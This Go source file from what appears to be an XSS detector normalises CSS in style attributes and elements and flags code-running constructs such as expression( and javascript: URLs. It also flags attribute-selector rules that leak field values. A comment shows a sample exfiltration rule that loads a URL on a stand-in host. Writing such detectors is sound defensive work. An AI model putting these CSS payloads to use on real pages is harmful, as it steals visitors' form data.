package xss

import (
	"bytes"

	"github.com/weirnode/weir/attack"
	"github.com/weirnode/weir/detect/evidence"
	"github.com/weirnode/weir/detect/lex"
	"github.com/weirnode/weir/point"
)

// maxStyle bounds the part of a style that is read; most are short, as one attribute is.
const (
	maxStyle   = 4096
	shortStyle = 256
)

// styleRuns reports whether a style runs code: an expression, a binding, a script
// URL.
func styleRuns(value []byte) bool {
	if !mayStyle(value) {
		return false
	}
	if len(value) <= shortStyle {
		var buf [shortStyle]byte
		return plainRuns(plainStyle(value, buf[:]), value)
	}
	var buf [maxStyle]byte
	return plainRuns(plainStyle(value, buf[:]), value)
}

// mayStyle reports whether a style is long enough to run code and has a mark of what does.
func mayStyle(value []byte) bool {
	if len(value) < 8 {
		return false
	}
	for _, c := range value {
		if c == '(' || c == ':' || c == '@' {
			return true
		}
	}
	return false
}

// plainRuns is styleRuns for a style in plain spelling, of a value.
func plainRuns(style, value []byte) bool {
	marks := point.Classify(style)
	if marks&point.HashAt != 0 && lex.Contains(style, "@import") && !lex.Contains(value, "@import") {
		return true // spelled with escapes
	}
	return marks&(point.Paren|point.Colon|point.Dash) != 0 && running.In(style)
}

var running = lex.NewList("expression(", "-moz-binding", "javascript:", "vbscript:", "behavior:url", "behaviour:url", "binding:url")

// plainStyle writes a style without comments, escapes and blanks, which hide the words from all but
// the browser.
func plainStyle(value, buf []byte) []byte {
	style := buf[:0]
	value = value[:min(len(value), maxStyle)]
	quote := byte(0)
	for i := 0; i < len(value); {
		c, size := value[i], 1
		if inStyle[c] && quote == 0 {
			style = append(style, c)
			i++
			continue
		}
		if c == '&' {
			if r, width := entity(value[i:]); width > 0 {
				c, size = r, width
			}
		}
		switch {
		case quote != 0: // comments in a string are none
			if style = append(style, c); c == quote {
				quote = 0
			}
		case c == '/' && i+1 < len(value) && value[i+1] == '*':
			end := bytes.Index(value[i+2:], []byte("*/"))
			if end < 0 {
				i = len(value)
				continue
			}
			size = end + 4
		case c == '\\':
			if r, width := cssEscape(value[i+size:]); width > 0 {
				style = append(style, r)
				size += width
			} else if beginsAddress(style) && bytes.HasPrefix(value[i+size:], []byte(`\`)) {
				style = append(style, '\\')
				size++
			}
		case c > ' ':
			if c == '"' && bytes.IndexByte(value[i+1:], '"') >= 0 && bytes.Contains(value[i:min(len(value), i+16)], []byte("*/")) {
				quote = c
			}
			style = append(style, c)
		}
		i += size
	}
	return style
}

// beginsAddress reports whether a style ends where an address may begin, or behind its first byte.
func beginsAddress(style []byte) bool {
	return len(style) > 0 && bytes.IndexByte([]byte(`"'(\`), style[len(style)-1]) >= 0
}

// inStyle holds the bytes of a style that stand for themselves and begin nothing.
var inStyle = func() (t [256]bool) {
	for c := range 256 {
		t[c] = c > ' ' && bytes.IndexByte([]byte("&/\\\""), byte(c)) < 0
	}
	return t
}()

// cssEscape reads up to six hex digits behind a backslash that stand for a letter.
func cssEscape(b []byte) (c byte, n int) {
	value := rune(0)
	for n < len(b) && n < 6 && digit(b[n]) < 16 {
		value = value<<4 | digit(b[n])
		n++
	}
	if n < 2 || value < 0x20 || value > 0x7e {
		return 0, 0
	}
	if n < len(b) && b[n] == ' ' {
		n++
	}
	return byte(value), n
}

// imports reports whether a style sheet, in plain spelling, loads another from a foreign place.
func imports(style []byte) bool {
	i := lex.Index(style, "@import")
	return i >= 0 && external(bytes.TrimLeft(style[i+len("@import"):], "'\"(url"))
}

// leaks reports whether rules, in plain spelling, ask a foreign host by what the page holds: one for each
// beginning of a field's value, or for each letter of a text.
func leaks(style []byte) bool {
	return point.Classify(style)&(point.Equal|point.Dash) != 0 && asking.In(style) && asksHost(style)
}

var (
	asking    = lex.NewList("value^=", "value$=", "value*=", "value|=", "value~=", "unicode-range")
	selectors = lex.NewList("^=", "$=", "*=", "|=", "~=")
	values    = lex.NewList("[value^=", "[value$=", "[value*=", "[value|=", "[*|value")
	files     = lex.NewList("url(", "image-set(")
)

// asksHost reports whether a style, in plain spelling, names a file of another host.
func asksHost(style []byte) bool {
	for {
		i, w := files.First(style)
		if i < 0 {
			return false
		}
		style = style[i+len(w):]
		if target := bytes.TrimLeft(style, "'\""); external(target) && !lex.HasPrefix(target, "data:") && !lex.HasPrefix(target, "url(") {
			return true
		}
	}
}

// rules finds rules that ask a foreign host by what fields hold, where a value goes on with a style
// sheet: }input[value^=k]{background:url(//h.example/k)}
func rules(data []byte, best *evidence.Tally) {
	head := data[:min(len(data), maxStyle)]
	if best.Score() >= evidence.Threshold {
		return
	}
	if i, _ := selectors.First(head); i < 1 || bytes.IndexByte(head[i:], '{') < 0 || bytes.IndexByte(head[:i], '[') < 0 {
		return
	}
	var buf [maxStyle]byte
	style := plainStyle(head, buf[:])
	at, _ := values.First(style)
	if at < 0 || bytes.IndexByte(style[at:], '{') < 0 || !asksHost(style[at:]) {
		return
	}
	var t evidence.Tally
	t.Reset(attack.XSS, evidence.HTMLAttr)
	t.Add(&styleLeak, 0, len(head))
	keep(&t, best)
}

// styleSheet weighs a style element and returns how many bytes of it were read.
func styleSheet(data []byte, start, end int, t *evidence.Tally) int {
	if data[start+1] == '/' { // what follows is none
		return 0
	}
	i := bytes.IndexByte(data[end:], '>')
	if i < 0 {
		return len(data) - end
	}
	body := data[end+i+1:]
	body = body[:min(len(body), maxStyle)]
	if j := lex.Index(body, "</style"); j >= 0 {
		body = body[:j]
	}
	read := end + i + 1 - start + len(body)
	if len(body) <= shortStyle {
		var buf [shortStyle]byte
		weighStyle(plainStyle(body, buf[:]), body, start, read, t)
		return len(body)
	}
	var buf [maxStyle]byte
	weighStyle(plainStyle(body, buf[:]), body, start, read, t)
	return len(body)
}

// weighStyle weighs a style element's style, in plain spelling, of its body.
func weighStyle(style, body []byte, start, read int, t *evidence.Tally) {
	switch {
	case mayStyle(body) && plainRuns(style, body):
		t.Add(&styleCode, start, read)
	case leaks(style):
		t.Add(&styleLeak, start, read)
	case imports(style):
		t.AddWeight(&activeTag, activeTag.Weight, start, read)
	}
}
